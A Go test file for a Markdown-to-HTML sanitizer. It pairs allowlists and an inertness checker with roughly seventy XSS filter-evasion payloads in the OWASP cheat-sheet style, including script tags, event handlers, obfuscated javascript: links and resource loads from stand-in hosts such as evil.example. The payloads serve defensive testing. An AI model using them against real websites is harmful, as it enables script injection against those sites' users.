package markup

import (
	"bytes"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	nethtml "golang.org/x/net/html"
)

// allowedElements are the elements output may contain.
var allowedElements = map[string]bool{
	"p": true, "br": true, "hr": true, "div": true, "span": true, "blockquote": true,
	"pre": true, "code": true, "em": true, "strong": true, "b": true, "i": true,
	"u": true, "s": true, "del": true, "ins": true, "sub": true, "sup": true,
	"small": true, "mark": true, "q": true, "cite": true, "kbd": true, "samp": true,
	"var": true, "abbr": true, "dl": true, "dt": true, "dd": true, "ul": true,
	"ol": true, "li": true, "h3": true, "h4": true, "h5": true, "h6": true,
	"table": true, "caption": true, "thead": true, "tbody": true, "tfoot": true,
	"tr": true, "th": true, "td": true, "a": true,
}

// allowedAttrs are the attributes output may contain.
var allowedAttrs = map[string]bool{
	"href": true, "rel": true, "title": true, "start": true, "colspan": true, "rowspan": true,
}

// forbiddenTags must never appear in output, whatever the case.
var forbiddenTags = []string{
	"<script", "<img", "<iframe", "<frame", "<style", "<form", "<input", "<button",
	"<svg", "<math", "<object", "<embed", "<link", "<meta", "<base", "<video",
	"<audio", "<source", "<picture", "<track", "<template", "<noscript", "<h1", "<h2",
}

// inertProblem returns what makes out unsafe, or "" if it is inert: only
// allowed elements and attributes, no event handlers, no style, links only
// to http, https and mailto, and rel="nofollow noopener noreferrer" on every
// link.
func inertProblem(out string) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	lower := strings.ToLower(out)
	for _, tag := range forbiddenTags {
		if strings.Contains(lower, tag) {
			return "contains " + tag
		}
	}
	z := nethtml.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		switch tt {
		case nethtml.ErrorToken:
			return ""
		case nethtml.CommentToken:
			return "contains a comment"
		case nethtml.DoctypeToken:
			return "contains a doctype"
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken, nethtml.EndTagToken:
			tok := z.Token()
			if !allowedElements[tok.Data] {
				return "element " + tok.Data
			}
			if tt == nethtml.EndTagToken {
				continue
			}
			rel, hasHref := "", false
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				if strings.HasPrefix(key, "on") {
					return "event handler " + a.Key
				}
				if !allowedAttrs[key] {
					return "attribute " + a.Key + " on " + tok.Data
				}
				if key == "rel" {
					rel = a.Val
				}
				if key == "href" {
					hasHref = true
					v := strings.ToLower(strings.TrimSpace(a.Val))
					if strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:") {
						return "script href " + a.Val
					}
					u, err := url.Parse(a.Val)
					switch {
					case err != nil:
						return "unparseable href " + a.Val
					case u.Scheme == "http" || u.Scheme == "https":
						if u.Host == "" {
							return "href without host " + a.Val
						}
					case u.Scheme == "mailto":
						if u.Opaque == "" {
							return "mailto without address " + a.Val
						}
					default:
						return "href scheme " + a.Val
					}
				}
			}
			if tok.Data == "a" && (rel != "nofollow noopener noreferrer" || !hasHref) {
				return "link without href or rel: " + tok.String()
			}
		}
	}
}

// hostile are XSS and resource-loading vectors in the style of the OWASP
// XSS filter evasion cheat sheet, plus Markdown-specific ones.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//<</SCRIPT>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror="alert(1)"//`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="  javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="jav	ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="https://ok.example" onclick="alert(1)">ok</a>`,
	`<a href="https://ok.example" style="position:fixed;top:0">ok</a>`,
	`[x](javascript:alert(1))`,
	`[x](JAVASCRIPT:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	`[x](javascript&#58;alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`[x](https://ok.example "t\" onmouseover=\"alert(1)")`,
	`![x](javascript:alert(1))`,
	`![x" onerror="alert(1)](https://evil.example/a.png)`,
	`<javascript:alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><image href="https://evil.example/a.png"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<style>body{display:none}</style>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<p style="background:url(https://evil.example/bg.png)">x</p>`,
	`<div style="width: expression(alert(1));">x</div>`,
	`<form action="https://evil.example"><input type=submit><button formaction=javascript:alert(1)>x</button></form>`,
	`<input type="image" src="https://evil.example/i.png">`,
	`<body onload=alert(1)>`,
	`<div onmouseover="alert(1)">x</div>`,
	`<details open ontoggle=alert(1)>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<video poster=https://evil.example/p.png><source src=https://evil.example/v.mp4></video>`,
	`<audio src=https://evil.example/a.mp3></audio>`,
	`<picture><source srcset=https://evil.example/a.webp><img src=https://evil.example/a.png></picture>`,
	`<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/c.png">x</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<a href="https://ok.example"><img src="https://evil.example/a.png" onerror=alert(1)></a>`,
	`<h1 onclick=alert(1) style="color:red">Title</h1>`,
	"```\n<script>alert(1)</script>\n```",
	"    <img src=x onerror=alert(1)>",
	"`<img src=x onerror=alert(1)>`",
	"<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
	`<a href="//evil.example/">protocol-relative</a>`,
	`<a href="/relative">relative</a>`,
	`<a href="https://ok.example" rel="opener" target="_blank">ok</a>`,
	`<abbr title="x" onmouseover=alert(1)>x</abbr>`,
}

func TestHostileInputIsInert(t *testing.T) {
	if len(hostile) < 15 {
		t.Fatalf("only %d vectors", len(hostile))
	}
	for _, src := range hostile {
		out := string(Markdown(src))
		if p := inertProblem(out); p != "" {
			t.Errorf("Markdown(%q) = %q: %s", src, out, p)
		}
		if strings.Contains(strings.ToLower(out), "javascript:") && strings.Contains(out, "href") {
			// Link text may mention javascript:, but never next to an href.
			if strings.Contains(strings.ToLower(out), `href="javascript:`) {
				t.Errorf("Markdown(%q) = %q: javascript: href", src, out)
			}
		}
	}
}

func TestHostileInputKeepsHarmlessParts(t *testing.T) {
	tests := []struct{ src, want string }{
		{`<a href="https://ok.example" onclick="alert(1)">ok</a>`, `<p><a href="https://ok.example" rel="nofollow noopener noreferrer">ok</a></p>`},
		{`<div onmouseover="alert(1)">x</div>`, `<div>x</div>`},
		{`<p style="color:red">x</p>`, `<p>x</p>`},
		{`<a href="javascript:alert(1)">x</a>`, `<p>x</p>`},
		{`[x](javascript:alert(1))`, `<p>x</p>`},
		{`<h1 onclick=alert(1) style="color:red">Title</h1>`, `<h3>Title</h3>`},
		{`<script>alert(1)</script>after`, `after`},
		{`<form action="https://evil.example">Text</form>`, `Text`},
		{`<a href="https://ok.example" rel="opener" target="_blank">ok</a>`, `<p><a href="https://ok.example" rel="nofollow noopener noreferrer">ok</a></p>`},
	}
	for _, tt := range tests {
		if got := string(Markdown(tt.src)); got != tt.want {
			t.Errorf("Markdown(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestInertProblemDetects(t *testing.T) {
	// The checker itself must catch what it is meant to catch.
	bad := []string{
		`<img src="https://x.example/a.png">`,
		`<p onclick="x">a</p>`,
		`<a href="javascript:alert(1)" rel="nofollow noopener noreferrer">x</a>`,
		`<a href="https://ok.example">x</a>`,
		`<p style="color:red">x</p>`,
		`<h1>x</h1>`,
		`<SCRIPT>x</SCRIPT>`,
		`<p>x</p><!-- c -->`,
		"\xff",
	}
	for _, s := range bad {
		if inertProblem(s) == "" {
			t.Errorf("inertProblem(%q) found nothing", s)
		}
	}
	if p := inertProblem(`<p>javascript: onerror=alert(1) is text</p><a href="mailto:a@b.example" rel="nofollow noopener noreferrer">m</a>`); p != "" {
		t.Errorf("inertProblem flagged harmless text: %s", p)
	}
}

// tokens returns the tag names in h, in order, for structure checks.
func tokens(h string) []string {
	var out []string
	z := nethtml.NewTokenizer(bytes.NewReader([]byte(h)))
	for {
		switch z.Next() {
		case nethtml.ErrorToken:
			return out
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken:
			name, _ := z.TagName()
			out = append(out, string(name))
		case nethtml.EndTagToken:
			name, _ := z.TagName()
			out = append(out, "/"+string(name))
		}
	}
}
